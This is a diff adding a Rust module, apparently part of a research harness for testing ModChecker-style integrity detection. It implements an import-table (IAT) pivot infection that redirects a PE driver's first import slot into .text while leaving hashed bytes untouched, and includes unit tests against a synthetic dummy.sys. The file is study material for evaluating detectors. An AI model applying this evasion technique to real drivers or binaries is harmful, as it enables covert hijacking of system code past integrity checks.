@@ -1,0 +1,154 @@
+//! IAT-pivot hook — control-flow hijack with *zero* hashed-byte changes.
+//!
+//! Unlike [`iat_hook`](crate::iat_hook) (a runtime in-memory probe), this
+//! is a file-level infection: it rewrites the first `FirstThunk` (IAT)
+//! slot in `.idata` to point at code of the attacker's choosing inside
+//! `.text`, while leaving the `OriginalFirstThunk` name table — and every
+//! byte the checker hashes — untouched. Every indirect `CALL [slot]`
+//! through that import then dispatches to the planted target.
+//!
+//! ModChecker's vote cannot see it by design: the IAT lives in
+//! initialized data, which the paper's Algorithm 2 deliberately excludes
+//! from content hashing (resolved pointers legitimately differ across
+//! VMs). Headers, `.text` and `.reloc` stay byte-identical, so the
+//! infected VM votes *clean* under both compare strategies. Only the L6
+//! import-integrity lint — cross-checking the IAT against its name table
+//! inside one capture — names the victim.
+
+use mc_pe::consts::DIR_IMPORT;
+use mc_pe::corpus::ModuleArtifacts;
+use mc_pe::parser::ParsedModule;
+use mc_pe::{read_u32, write_u32, write_u64, AddressWidth, PeFile};
+
+use crate::{AttackError, Expectation, Infection};
+
+/// `IMAGE_IMPORT_DESCRIPTOR.FirstThunk` offset within the descriptor.
+const DESC_FIRST_THUNK: usize = 16;
+
+/// Replaces the first IAT slot with a pointer into `.text`.
+#[derive(Clone, Copy, Debug)]
+pub struct IatPivot;
+
+impl Infection for IatPivot {
+    fn name(&self) -> &'static str {
+        "IAT pivot (import-table pointer hook)"
+    }
+
+    fn target_module(&self) -> &str {
+        "dummy.sys"
+    }
+
+    fn infect(&self, pristine: &ModuleArtifacts) -> Result<PeFile, AttackError> {
+        let f0 = *pristine
+            .code
+            .functions
+            .first()
+            .ok_or(AttackError::NoSuitableSite("module has no functions"))?;
+        let pe = pristine.build()?;
+        let mut bytes = pe.bytes().to_vec();
+        let parsed = ParsedModule::parse_file(&bytes).map_err(AttackError::Build)?;
+        let (dir_rva, _) = parsed
+            .data_directory(&bytes, DIR_IMPORT)
+            .filter(|&(rva, _)| rva != 0)
+            .ok_or(AttackError::NoSuitableSite("module has no import table"))?;
+        let desc_off = parsed
+            .rva_to_offset(dir_rva)
+            .ok_or(AttackError::NoSuitableSite("import directory unmapped"))?;
+        let ft_rva = read_u32(&bytes, desc_off + DESC_FIRST_THUNK)
+            .filter(|&rva| rva != 0)
+            .ok_or(AttackError::NoSuitableSite("descriptor has no IAT"))?;
+        let ft_off = parsed
+            .rva_to_offset(ft_rva)
+            .ok_or(AttackError::NoSuitableSite("IAT unmapped"))?;
+        let text_va = parsed
+            .find_section(".text")
+            .map(|i| parsed.sections[i].virtual_address)
+            .ok_or(AttackError::NoSuitableSite("module has no .text"))?;
+
+        // Divert the first import's dispatch slot to the first function —
+        // standing in for an attacker stub already resident in .text.
+        let target = text_va + f0.entry;
+        match pristine.width {
+            AddressWidth::W32 => write_u32(&mut bytes, ft_off, target),
+            AddressWidth::W64 => write_u64(&mut bytes, ft_off, u64::from(target)),
+        }
+        Ok(PeFile::from_parts(
+            bytes,
+            pristine.width,
+            pe.reloc_rvas().to_vec(),
+            pe.size_of_image(),
+        ))
+    }
+
+    fn expected_mismatches(&self) -> Vec<Expectation> {
+        // `.idata` is excluded from content hashing: the vote sees nothing.
+        Vec::new()
+    }
+
+    fn statically_detectable(&self) -> Option<&'static str> {
+        Some("L6")
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use mc_pe::corpus::ModuleBlueprint;
+
+    fn pristine() -> ModuleArtifacts {
+        ModuleBlueprint::new("dummy.sys", AddressWidth::W32, 12 * 1024)
+            .with_imports(&[(
+                "ntoskrnl.exe",
+                &["IoCreateDevice", "IoDeleteDevice", "IofCompleteRequest"],
+            )])
+            .generate()
+    }
+
+    #[test]
+    fn only_the_iat_slot_changes() {
+        let art = pristine();
+        let clean = art.build().unwrap();
+        let infected = IatPivot.infect(&art).unwrap();
+        assert_eq!(clean.bytes().len(), infected.bytes().len());
+        let diffs: Vec<usize> = clean
+            .bytes()
+            .iter()
+            .zip(infected.bytes())
+            .enumerate()
+            .filter(|(_, (a, b))| a != b)
+            .map(|(i, _)| i)
+            .collect();
+        assert!(!diffs.is_empty(), "the slot must actually change");
+        assert!(
+            diffs.len() <= 4,
+            "at most one 32-bit slot rewritten: {diffs:?}"
+        );
+        let p = ParsedModule::parse_file(clean.bytes()).unwrap();
+        let idata = p
+            .find_section(".idata")
+            .map(|i| p.sections[i].data_range.clone())
+            .unwrap();
+        for d in diffs {
+            assert!(idata.contains(&d), "diff at {d:#x} outside .idata");
+        }
+    }
+
+    #[test]
+    fn the_slot_points_into_text() {
+        let art = pristine();
+        let infected = IatPivot.infect(&art).unwrap();
+        let p = ParsedModule::parse_file(infected.bytes()).unwrap();
+        let (dir_rva, _) = p.data_directory(infected.bytes(), DIR_IMPORT).unwrap();
+        let desc = p.rva_to_offset(dir_rva).unwrap();
+        let ft_rva = read_u32(infected.bytes(), desc + DESC_FIRST_THUNK).unwrap();
+        let ft_off = p.rva_to_offset(ft_rva).unwrap();
+        let value = read_u32(infected.bytes(), ft_off).unwrap();
+        let text = &p.sections[p.find_section(".text").unwrap()];
+        assert!(
+            value >= text.virtual_address
+                && value < text.virtual_address + text.data_range.len() as u32,
+            "slot {value:#x} must resolve into .text"
+        );
+        assert_eq!(value, text.virtual_address + art.code.functions[0].entry);
+    }
+}
